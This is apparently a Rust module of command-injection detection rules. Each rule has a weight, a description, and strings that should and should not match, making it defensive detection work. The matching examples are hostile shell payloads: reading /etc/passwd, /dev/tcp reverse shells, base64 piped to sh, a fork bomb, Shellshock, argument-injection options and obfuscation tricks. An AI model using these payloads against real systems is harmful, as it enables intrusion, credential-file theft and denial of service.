//! The rules and their weights.
//!
//! Evidence is collected per simple command and never added across commands: how the command begins, what it is, its
//! arguments, and its obfuscation. Names of programs are words too, so a name and a separator alone stay below the
//! threshold.

use crate::detect::evidence::{Class, Rule};

pub(super) static SEPARATOR: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.separator",
    40,
    "starts a command after a separator",
    &["x; cat /etc/passwd", "a | whoami"],
    &["dogs; cat food & more", "a | b | cat", "Tom & Python"],
);
pub(super) static NEWLINE: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.new-line",
    20,
    "starts a command on a new line",
    &["x\ncat /etc/passwd"],
    &["first\nfind the rest\nsort it"],
);
pub(super) static LEADING: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.leading-separator",
    20,
    "starts with a separator",
    &["; ls -la", "|id"],
    &["& more", "| id | name |", "| table | head |"],
);
pub(super) static ADDRESSED: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.behind-address",
    40,
    "starts a command after an address, as where a page passes one to a program",
    &["127.0.0.1;id", "10.0.0.1|ls", "192.0.2.7\nid", "192.0.2.7:80&&date"],
    &["10.0.0.1; 10.0.0.2", "127.0.0.1", "1.2.3.4 | main office", "1.2.3.4\nfind the host"],
);
pub(super) static SUBSTITUTION: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.substitution",
    50,
    "is a command substitution",
    &["$(whoami)", "`uname -a`", "<(cat /etc/passwd)"],
    &["use `id` to see it", "$(document).ready", "cost $(5)"],
);
pub(super) static CALL: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.call",
    80,
    "passes a command to a function that runs it",
    &[
        "system('cat /etc/passwd')",
        "exec('ls')",
        "https://site.example/system('curl https://site.example/x')",
    ],
    &["the system ('metric') works", "format('x + 1')"],
);
pub(super) static WHOLE: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.whole-value",
    20,
    "is a command line",
    &["cat /etc/passwd", "ls -l /etc/"],
    &["ping 127.0.0.1", "git commit -m 'fix; update docs'", "nc 8000 controller", "find my order"],
);
pub(super) static CERTAIN: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.certain-program",
    60,
    "names a program that is no common word",
    &["x;whoami", "$(uname)"],
    &["whoami", "what does ifconfig do"],
);
pub(super) static TOOL: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.tool",
    50,
    "names a tool or interpreter",
    &["; ls -la", "|| perl -e 'print 1'"],
    &["Tom & Python", "bash away in the gym"],
);
pub(super) static EVERYDAY: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.everyday-program",
    20,
    "names a program that is a common word too",
    &["; cat /etc/passwd", "|id|"],
    &["dogs; cat food", "sort; find; more"],
);
pub(super) static PROGRAM_PATH: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.program-path",
    60,
    "names a program by its path",
    &["a;/usr/bin/id", "/bin/ls -al"],
    &["see /usr/bin for more", "/bin/"],
);
pub(super) static HIDDEN_PROGRAM: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.spelled-program",
    80,
    "obfuscates a program name with characters that the shell removes",
    &["w\\ho\\am\\i", ";c''at /etc/pas''swd", "who$@ami"],
    &["don't", "C:\\who\\am\\i.txt", "O'Connor"],
);
pub(super) static GLOBBED: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.globbed-path",
    100,
    "names a program by wildcards",
    &["/???/c?t", "; /b?n/l?"],
    &["what???/who?", "/path/to/?x=1"],
);
pub(super) static BLANK: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.spelled-blank",
    60,
    "separates words by an expansion instead of a space",
    &["cat$IFS/etc/passwd", "{cat,/etc/passwd}", ";ls${IFS}-la"],
    &["{a,b}", "{id,name}", "set IFS to a comma"],
);
pub(super) static OPTION: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.argument",
    40,
    "passes an option, a path or an address to a command",
    &["; ls -la", "x|curl http://example.com/x"],
    &["more -or- less", "see http://example.com/"],
);
pub(super) static SECOND_ARGUMENT: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.arguments",
    20,
    "passes arguments of several kinds to a command",
    &["ping -i 30 127.0.0.1"],
    &["ping 127.0.0.1"],
);
pub(super) static SENSITIVE_FILE: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.sensitive-file",
    40,
    "passes a sensitive file to a command",
    &["cat /etc/passwd", "type C:\\boot.ini", "cd /;cd etc;column passwd"],
    &["the passwd file", "hosts and guests"],
);
pub(super) static NUMBER: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.number-argument",
    20,
    "passes one number to a command",
    &["; sleep 10", "&& sleep 5"],
    &["sleep 8", "head 5"],
);
pub(super) static BEHIND_WORD: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.behind-word",
    20,
    "starts a command after one word, as where a page passes one to a program, with one number as the delay",
    &["x; sleep 5", "report.pdf && sleep 10", "a|timeout 7"],
    &["eat well; sleep 8", "x; sleep", "a; b 5", "rest & sleep 8 hours"],
);
pub(super) static LONE: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.lone-program",
    20,
    "consists of one program name set apart from other text",
    &["|id", "`id`", "& dir"],
    &["a|id", "Tom & Python"],
);
pub(super) static TRAILING: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.trailing-separator",
    20,
    "ends the command so that another follows",
    &["a;id;", "a|id|"],
    &["dogs; cats;", "one | two |"],
);
pub(super) static PIPED: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.piped-to-interpreter",
    60,
    "pipes into an interpreter",
    &["echo aWQ=|base64 -d|sh", "head -c9 /tmp/x | sh"],
    &["oil | bash", "write php | node"],
);
pub(super) static ENCODED: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.inline-code",
    60,
    "passes code to an interpreter",
    &["powershell -enc SQBFAFgA", "cmd /c dir", "bash -c 'id'", "${SHELL} -c 'echo hi'"],
    &["bash on windows", "perl of wisdom"],
);
pub(super) static PREFIXED: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.run-through",
    20,
    "runs a program through another one (env, sudo, xargs)",
    &["sudo whoami", "strace ifconfig", "nohup ncat -l 4444"],
    &["time flies", "watch the tree", "sudo"],
);
pub(super) static KEPT_PROGRAM: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.kept-program",
    100,
    "runs a program whose name is in a variable",
    &["a=nc&&$a -e sh 10.0.0.1", "x; v=l;cur$v http://example.com/x", "c=cat;p=/etc/passwd;${c} $p"],
    &["a=1; b=$2", "$total = $price; $total++", "price=$5; was $6"],
);
pub(super) static ALIAS: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.alias",
    60,
    "defines a command alias",
    &["alias ls='cat /etc/passwd'", "alias a=curl", "alias +g a=b"],
    &["alias", "an alias = another name", "also known by the alias x"],
);
pub(super) static BATCH_LOOP: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.batch-loop",
    100,
    "is a loop of the Windows command interpreter",
    &["for /f \"delims=\" %i in ('dir /b') do echo %i", "& FOR %%G IN (a,b,c) DO md %%G"],
    &["5 % off for all in (store) do come", "for %s in the list", "for x in (1, 2) do"],
);
pub(super) static BATCH_CONDITION: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.batch-condition",
    100,
    "is a condition of the Windows command interpreter",
    &[
        "if exist c:\\pagefile.sys (cmd)",
        "IF /I \"%var%\" NEQ \"0\" echo inequality",
        "x & if not errorlevel 1 goto done",
        "if a==b echo same",
        "if /i a==b anything",
        "if/i not \"a\"==\"b\" anything",
        "if \"%VAR%\"==%%A do echo true",
        "if \"a b\" == \"a b\" echo same",
    ],
    &[
        "if exist",
        "if not, sort it yourself",
        "if x == 1: print(x)",
        "if (a == b) sort(c)",
        "if defined terms matter, type them in bold",
        "if (a == \"b\") sort(c)",
        "if x==y then",
    ],
);
pub(super) static RUN_OPTION: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.run-option",
    100,
    "is an option that makes a program run a command (argument injection)",
    &[
        "-oProxyCommand=id",
        "--upload-pack=touch /tmp/x",
        "--checkpoint-action=exec=sh x.sh",
        "--use-askpass=calc",
    ],
    &["--name=value", "-o output", "the --exec= option", "--use-color=id", "--upload=file"],
);
pub(super) static EXPANSION: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.expansion",
    100,
    "is a parameter or arithmetic expansion",
    &["; echo $((12*34))", "${PATH#{}/}", "${HOME:0:1}", "${PWD%%/*}", "$[2+2]", "$((7 * 6))", "$(($() 42))"],
    &[
        "${price}",
        "${#dates}",
        "${name:10:20:30}",
        "${time:10:30}",
        "$[0]",
        "$[-1].name",
        "$[1-3]",
        "${1:2:3}",
        "$((price))",
        "cost: $[2+2]",
    ],
);
pub(super) static FORK_BOMB: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.fork-bomb",
    100,
    "is a fork bomb",
    &[":(){ :|:& };:", "f() { f | f & }; f"],
    &["f(){ f && g(); }", "function render() { draw() | 0 }", "(){ }"],
);
pub(super) static NETWORK: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.network-device",
    100,
    "opens a network connection through the shell (/dev/tcp)",
    &["bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "d=/dev&&(sh)0>$d/tcp/192.0.2.1/777"],
    &["the /dev/tcp feature", "/dev/null"],
);
pub(super) static SHELLSHOCK: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.shellshock",
    100,
    "defines a shell function with code after it (Shellshock, CVE-2014-6271)",
    &["() { :;}; echo vulnerable", "() { x; }", "() {"],
    &["() => { x }", "function() { return 1; }", "render() { return 1; }"],
);
pub(super) static INTERPOLATION: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.php-interpolation",
    100,
    "calls a function by PHP string interpolation",
    &["{${sleep(20)}}", "${@print(md5(1))}"],
    &["${price}", "${user.name()}", "{${name}}"],
);
pub(super) static PROBE: Rule = Rule::new(
    Class::CommandInjection,
    "command_injection.php-probe",
    100,
    "calls a PHP function that only proves code execution",
    &[";phpinfo();//", "phpinfo();"],
    &["call phpinfo() to see it", "phpinfo"],
);

pub(super) const ALL: &[&Rule] = &[
    &SEPARATOR,
    &NEWLINE,
    &LEADING,
    &ADDRESSED,
    &SUBSTITUTION,
    &CALL,
    &WHOLE,
    &CERTAIN,
    &TOOL,
    &EVERYDAY,
    &PROGRAM_PATH,
    &HIDDEN_PROGRAM,
    &GLOBBED,
    &BLANK,
    &OPTION,
    &SECOND_ARGUMENT,
    &SENSITIVE_FILE,
    &NUMBER,
    &BEHIND_WORD,
    &LONE,
    &TRAILING,
    &PIPED,
    &ENCODED,
    &PREFIXED,
    &KEPT_PROGRAM,
    &ALIAS,
    &BATCH_LOOP,
    &BATCH_CONDITION,
    &RUN_OPTION,
    &EXPANSION,
    &FORK_BOMB,
    &NETWORK,
    &SHELLSHOCK,
    &INTERPOLATION,
    &PROBE,
];
